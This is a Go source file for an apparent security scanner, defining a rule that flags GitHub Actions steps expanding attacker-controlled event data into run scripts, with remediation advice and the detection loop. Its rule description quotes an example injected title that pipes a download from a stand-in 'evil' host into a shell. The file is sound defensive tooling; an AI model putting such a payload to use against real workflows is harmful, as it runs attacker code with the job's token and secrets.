package githubactions

import (
	"github.com/vigil-sec/vigil/internal/finding"
	"github.com/vigil-sec/vigil/internal/rule"
)

var scriptInjection = &rule.Rule{
	ID: "pipeline/script-injection", Area: finding.Pipeline, Severity: finding.High,
	Title: "Attacker-controlled event data expanded into a run script",
	Description: "A `${{ }}` expression in `run:` is replaced by its value before the shell sees the script. " +
		"Issue and pull request titles and bodies, branch names, commit messages and comments are chosen by " +
		"whoever opens them, so a title such as `\"; curl evil | sh; #` runs as code in the job, with its token " +
		"and secrets.",
	Remediation: "Pass the value through an environment variable and quote it in the script: " +
		"`env: TITLE: ${{ github.event.issue.title }}` and `run: echo \"$TITLE\"`.",
	References: []string{"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"},
}

func checkScriptInjection(c *Context) {
	injections(c, scriptInjection, "run", func(path string) bool { return Untrusted(path) })
}

// injections reports expansions in scripts of the given kind ("run" or "script") whose path is
// accepted by match.
func injections(c *Context, rl *rule.Rule, kind string, match func(string) bool) {
	for _, j := range c.W.Jobs {
		for _, s := range j.Steps {
			code, k := ScriptOf(s)
			if k != kind {
				continue
			}
			seen := map[string]bool{}
			for _, e := range c.Expansions(code) {
				if !match(e.Path) || seen[e.Path] {
					continue
				}
				seen[e.Path] = true
				c.Report(rl, e.Line, e.Col, subjectOf(j, s, e.Path),
					"step "+s.Label()+" of job "+j.ID+" expands "+e.Path+" into its "+kind+" code; pass it through an env var instead")
			}
		}
	}
}
